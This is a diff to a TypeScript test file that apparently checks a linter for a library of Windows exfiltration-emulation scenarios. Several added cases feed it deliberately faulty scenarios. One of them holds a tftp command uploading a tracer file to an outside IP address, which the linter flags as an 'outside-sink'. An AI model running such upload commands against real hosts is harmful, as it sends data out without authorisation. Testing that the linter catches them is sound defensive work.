@@ -44,7 +44,7 @@ describe('the library', () => {
   });
 
   it('passes its own lint', () => {
-    expect(library.flatMap(lintScenario)).toEqual([]);
+    expect(library.flatMap((scenario) => lintScenario(scenario))).toEqual([]);
   });
 });
 
@@ -67,6 +67,22 @@ describe('lint', () => {
     ],
     ['missing-cleanup', (s: Scenario) => ({ ...s, cleanup: [] })],
     ['unknown-placeholder', (s: Scenario) => ({ ...s, cleanup: [...s.cleanup, 'del {trace}'] })],
+    [
+      'not-staged',
+      (s: Scenario) => ({ ...s, slow: { steps: [step({ program: 'x.exe', args: ['{dll}'] })] } }),
+    ],
+    [
+      'outside-sink',
+      (s: Scenario) => ({ ...s, steps: [step({ cmd: 'tftp.exe -i 198.51.100.7 PUT {tracer}' })] }),
+    ],
+    ['outside-sink', (s: Scenario) => ({ ...s, cleanup: [...s.cleanup, 'curl.exe https://example.com/'] })],
+    [
+      'no-check',
+      (s: Scenario) => ({ ...s, prerequisites: [{ id: 'x', text: 't', check: 'exit /b 0', remedy: 'r' }] }),
+    ],
+    ['tftp-limit', (s: Scenario) => ({ ...s, protocol: 'tftp' as const })],
+    ['tftp-limit', (s: Scenario) => ({ ...s, protocol: 'tftp' as const, maxBytes: 2 ** 40 })],
+    ['profile-unfit', (s: Scenario) => ({ ...s, maxBytes: 1024 * 1024, profiles: ['large' as const] })],
     ['control-mismatch', (s: Scenario) => ({ ...s, control: true, profiles: ['large' as const] })],
   ])('finds %s', (code, change) => {
     expect(lintScenario(change(base())).map((finding) => finding.code)).toContain(code);
